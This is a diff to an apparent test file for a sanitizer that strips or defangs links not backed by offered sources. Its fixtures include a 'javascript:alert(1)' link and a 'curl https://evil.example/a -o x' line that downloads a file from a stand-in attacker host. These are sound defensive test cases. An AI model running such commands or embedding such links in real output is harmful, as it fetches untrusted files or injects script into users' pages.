@@ -169,6 +169,7 @@ LINKS = [
     ("Write to bad@evil.example now.", "Write to `bad@evil.example` now."),
     ("[Run](javascript:alert(1))", None),
     ("<https://evil.example/a>", "`evil.example/a`"),
+    ("Run `curl https://evil.example/a -o x` now.", "Run `curl evil.example/a -o x` now."),
 ]
 
 
@@ -179,6 +180,11 @@ def test_a_link_that_no_source_has_is_no_link(answer, expected):
     strict = check(f"The shop opens at nine [1].\n\n{answer}", OFFERED, strict=True)
     assert strict.content == "The shop opens at nine [1]."
     assert len(strict.removed) == 1 and strict.removed[0]["reason"] in ("link", "number")
+
+
+def test_an_address_in_a_block_of_code_is_no_link_already():
+    code = "```\ncurl https://evil.example/a\nmail bad@evil.example\n```"
+    assert content(code, strict=False) == code.replace("https://", "")
 
 
 def test_a_link_of_a_source_stays():
